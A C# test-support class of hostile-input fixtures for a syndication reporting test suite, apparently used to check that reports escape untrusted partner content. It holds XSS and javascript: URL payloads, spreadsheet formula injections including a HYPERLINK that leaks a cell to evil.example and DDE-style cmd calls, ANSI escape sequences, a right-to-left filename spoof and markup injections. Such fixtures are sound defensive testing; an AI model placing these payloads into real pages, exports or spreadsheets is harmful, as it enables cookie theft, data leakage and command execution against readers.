namespace Syndication.Reporting.Tests.Support;

/// <summary>Text a partner's page could carry to attack whoever opens a report.</summary>
public static class Hostile
{
    public const string Script = "<script>alert('xss')</script>";
    public const string AttributeBreakout = "\"><img src=x onerror=alert(1)>";
    public const string JavascriptUrl = "javascript:alert(document.cookie)";
    public const string Formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
    public const string PlusFormula = "+cmd|' /C calc'!A0";
    public const string AtFormula = "@SUM(1+1)*cmd|' /C calc'!A0";
    public const string MinusFormula = "-2+3+cmd|' /C calc'!A0";
    public const string Ansi = "\u001B[2J\u001B]0;pwned\u0007clear";
    public const string LineBreaks = "line one\r\nline two\nline three";
    public const string RightToLeft = "invoice\u202Etxt.exe";
    public const string SpectreMarkup = "[red]boom[/] [/] [link=http://evil.example]x[/]";
    public const string Markdown = "| cell | ![t](http://evil.example/t.png) [click](javascript:alert(1)) **bold** @octocat #1 $x$ <b>b</b>";
}
